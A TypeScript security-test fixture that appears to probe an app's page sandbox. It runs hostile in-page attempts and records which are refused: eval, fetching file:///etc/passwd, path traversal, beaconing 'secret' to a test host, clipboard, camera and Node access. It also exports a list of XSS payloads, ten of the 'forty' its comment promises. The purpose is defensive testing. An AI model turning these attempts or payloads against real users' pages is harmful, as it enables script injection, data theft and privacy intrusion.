/** What a hostile page tries by itself, and what came of it: `refused`, or what it got. */
export type Attempts = Readonly<Record<string, string>>;

/**
 * Runs in the page, as script that found its way into it. Every attempt answers with `refused: why`
 * or with what it got. It must not use anything from outside, because it is sent as text.
 */
export async function tryEverything(target: {
  readonly webUrl: string;
  readonly socketUrl: string;
}): Promise<Attempts> {
  const results: Record<string, string> = {};
  const seen = window as unknown as { hostileRan?: string[] };
  seen.hostileRan = [];
  const within = <Value>(work: Promise<Value>): Promise<Value> =>
    Promise.race([
      work,
      new Promise<never>((_, fail) => setTimeout(() => fail(new Error('no answer')), 3000)),
    ]);
  const attempt = async (name: string, act: () => unknown) => {
    try {
      const got = await within(Promise.resolve(act()));
      results[name] =
        got === undefined || got === null || got === false
          ? 'refused: nothing'
          : `got ${typeof got === 'string' ? got.slice(0, 80) : typeof got}`;
    } catch (cause) {
      results[name] = `refused: ${cause instanceof Error ? cause.name : String(cause)}`;
    }
  };
  const load = (element: HTMLElement) =>
    new Promise((done, fail) => {
      element.addEventListener('load', () => done('loaded'));
      element.addEventListener('error', () => fail(new Error('not loaded')));
      document.body.append(element);
    });
  const make = <Name extends keyof HTMLElementTagNameMap>(name: Name, fields: object) =>
    Object.assign(document.createElement(name), fields);
  const ranAs = async (name: string) => {
    await new Promise((done) => setTimeout(done, 100));
    return seen.hostileRan?.includes(name);
  };

  // oxlint-disable no-eval, no-implied-eval, no-new-func -- these are the attacks
  await attempt('eval', () => globalThis.eval('1 + 1'));
  await attempt('new Function', () => new Function('return 1')());
  await attempt('setTimeout with text', () => {
    setTimeout("window.hostileRan.push('timeout')", 0);
    return ranAs('timeout');
  });
  await attempt('inline script', () => {
    const script = document.createElement('script');
    script.append("window.hostileRan.push('inline')");
    document.body.append(script);
    return ranAs('inline');
  });
  await attempt('script from data', () => load(make('script', { src: 'data:text/javascript,1' })));
  await attempt(
    'import from data',
    () => import(/* @vite-ignore */ ['data:text/javascript', 'export default 1'].join(',')),
  );
  await attempt('worker from blob', () => new Worker(URL.createObjectURL(new Blob(['1']))));
  await attempt('WebAssembly', () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
  await attempt(
    'insertAdjacentHTML',
    () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>') ?? 'inserted',
  );
  await attempt('document.write', () => document.write('<b>x</b>') ?? 'written');
  await attempt('srcdoc', () => make('iframe', { srcdoc: '<b>x</b>' }));
  await attempt('own trusted types policy', () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => object };
    };
    return trustedTypes.createPolicy('mine', {});
  });
  await attempt('fetch from the web', () => fetch(target.webUrl));
  await attempt('fetch a file', () => fetch('file:///etc/passwd'));
  await attempt('fetch outside the bundle', () => fetch('app://desk/../../package.json'));
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    return new Promise((done, fail) => {
      request.onload = () => done(request.status);
      request.onerror = () => fail(new Error('blocked'));
      request.open('GET', target.webUrl);
      request.send();
    });
  });
  await attempt('WebSocket', () => {
    const socket = new WebSocket(target.socketUrl);
    return new Promise((done, fail) => {
      socket.onopen = () => done('open');
      socket.onerror = () => fail(new Error('blocked'));
    });
  });
  await attempt('EventSource', () => {
    const source = new EventSource(target.webUrl);
    return new Promise((done, fail) => {
      source.onopen = () => done('open');
      source.onerror = () => fail(new Error('blocked'));
    });
  });
  // A beacon says only that it was queued; the server that waits for it is the witness.
  navigator.sendBeacon(target.webUrl, 'secret');
  await attempt('image from the web', () => load(make('img', { src: target.webUrl })));
  await attempt('style from the web', () => load(make('link', { rel: 'stylesheet', href: target.webUrl })));
  await attempt('frame from the web', () => {
    const frame = make('iframe', { src: target.webUrl });
    document.body.append(frame);
    return new Promise((done) => setTimeout(() => done(frame.contentDocument?.URL.startsWith('http')), 300));
  });
  await attempt('read the clipboard', () => navigator.clipboard.readText().then((text) => `text ${text}`));
  await attempt('notifications', async () => (await Notification.requestPermission()) === 'granted');
  await attempt(
    'geolocation',
    () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
  );
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
  await attempt('screen', () => navigator.mediaDevices.getDisplayMedia());
  await attempt('USB', () =>
    (navigator as unknown as { usb: { requestDevice: (o: object) => unknown } }).usb.requestDevice({
      filters: [],
    }),
  );
  await attempt('new window', () => window.open(target.webUrl));
  await attempt('new blank window', () => window.open('about:blank'));
  await attempt('new window of our own page', () => window.open('app://desk/index.html'));
  await attempt(
    'Node',
    () =>
      (window as unknown as { require?: unknown }).require ??
      (window as unknown as { process?: unknown }).process,
  );
  await attempt('service worker', () => navigator.serviceWorker.register('app://desk/index.html'));
  return results;
}

/** Forty texts that would run script if one of four ways of turning text into a page let them. */
export const injections: readonly string[] = [
  '<img src=x onerror="window.injected=\'1\'">',
  '<svg onload="window.injected=\'2\'"></svg>',
  "<script>window.injected='3'</script>",
  '<iframe src="javascript:window.top.injected=\'4\'"></iframe>',
  '<iframe srcdoc="<script>top.injected=\'5\'</script>"></iframe>',
  '<a id=hostile href="javascript:window.injected=\'6\'">x</a>',
  '<details open ontoggle="window.injected=\'7\'">x</details>',
  '<video><source onerror="window.injected=\'8\'"></video>',
  '<object data="javascript:window.injected=\'9\'"></object>',
  '<form action="javascript:window.injected=\'10\'"><button id=hostile>x</button></form>',
];
